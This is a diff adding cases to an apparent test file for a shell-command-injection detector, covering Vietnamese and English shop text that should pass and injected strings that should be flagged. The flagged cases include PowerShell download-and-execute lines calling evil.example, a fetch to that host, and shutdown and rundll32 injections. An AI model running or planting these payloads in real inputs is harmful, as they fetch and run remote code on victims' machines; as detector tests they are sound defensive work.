@@ -38,6 +38,12 @@ test.each([
   'Boa lacing system ("dial")',
   'Nhấn Cmd/Ctrl+C để chép',
   'Menu > /home/sale',
+  'Đổi 37->(free ship) 38',
+  '=>(set 2 đôi)',
+  'Giày đỏ >(more) giày xanh',
+  'My mum will come & fetch it.Thanks!',
+  'Họ tên & ID / CCCD',
+  '; get-well soon',
 ])('“%s” has no command', (text) => expect(attacks(text)).toEqual([]))
 
 test.each(['rest&sleep 8H!', 'P@ss;sleep 7x', 'a;shutdown X9', 'Ngủ; sleep 8 giờ A'])(
@@ -97,6 +103,12 @@ test.each([
   '& start calc.exe',
   '& rundll32 url.dll,x',
   '& sc stop x',
+  '& fetch http://evil.example/x',
+  '& host evil.example',
+  "; IEX(New-Object Net.WebClient).DownloadString('http://evil.example/a.ps1')",
+  '& Invoke-Expression (iwr http://evil.example/a.ps1)',
+  'diff <(cat x) y',
+  'x >(id)',
 ])('%s is a command with its argument', (text) => expect(attacks(text)).toContain('CMD'))
 
 test.each([
